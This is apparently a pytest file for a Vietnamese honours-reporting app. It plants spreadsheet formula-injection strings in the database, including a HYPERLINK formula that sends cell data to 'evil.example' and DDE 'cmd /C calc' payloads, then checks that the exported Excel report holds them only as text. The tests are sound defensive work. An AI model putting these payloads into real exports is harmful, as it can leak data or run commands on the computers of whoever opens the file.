"""Formula injection: whatever members typed reaches the workbook as text, never as a live formula.

openpyxl writes any string beginning with "=" as a formula, and a spreadsheet may run one beginning with "+", "-"
or "@". A unit, a name, a deed, the account of a commendation and an activity's title are set to such strings;
the saved /baocao workbook is opened again and no cell anywhere is of formula type (the report's totals are
values it computed: it writes no formula of its own)."""

from __future__ import annotations

import io
from datetime import date

from openpyxl import load_workbook
from sqlalchemy import text

from handlers.services.authz import load_actor
from handlers.services.periods import parse_cli
from handlers.services.reports import excel_attachment
from handlers.services.rollup import rollup
from tests.report_world import DT, THANH_SON
from tests.support import TZ, Database, FakeClock

HOSTILE = {
    "unit": '=HYPERLINK("http://evil.example/?"&A1,"Chi bộ thôn Đồng Tâm")',
    "name": "+Nguyễn Văn Bốn+1",
    "deed": "-2+3+cmd|' /C calc'!A0",
    "account": "@SUM(1+1)*cmd|' /C calc'!A0",
    "activity": "=1+1",
}


async def poison(db: Database) -> None:
    async with db.sessions() as session:
        await session.execute(text("UPDATE units SET name = :v WHERE name = :old"), {"v": HOSTILE["unit"], "old": DT})
        await session.execute(text("UPDATE members SET full_name = :v WHERE code = 'DV004'"), {"v": HOSTILE["name"]})
        await session.execute(text("UPDATE commitments SET content = :v"), {"v": HOSTILE["deed"]})
        await session.execute(text("UPDATE commendations SET account = :v"), {"v": HOSTILE["account"]})
        await session.execute(text("UPDATE activities SET title = :v"), {"v": HOSTILE["activity"]})
        await session.commit()


async def workbook_of(db: Database, clock: FakeClock, code: str, period_text: str) -> bytes:
    async with db.uow() as uow:
        member = await uow.members.by_code(code)
        assert member is not None
        summary = await rollup(uow, await load_actor(uow, member), parse_cli(period_text, TZ), clock.now(), TZ)
        return (await excel_attachment(uow, summary, date(2026, 11, 23), TZ)).content


async def test_no_cell_of_the_report_is_a_formula(honours_db: Database, clock: FakeClock) -> None:
    await poison(honours_db)
    content = await workbook_of(honours_db, clock, "DV025", "2026")
    book = load_workbook(io.BytesIO(content))
    formulas, texts = [], set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append((sheet.title, cell.coordinate, cell.value))
                elif isinstance(cell.value, str):
                    texts.add(cell.value)
    assert formulas == []
    assert set(HOSTILE.values()) <= texts  # each one is there, as the text it was
    assert THANH_SON in book.worksheets[0]["A1"].value
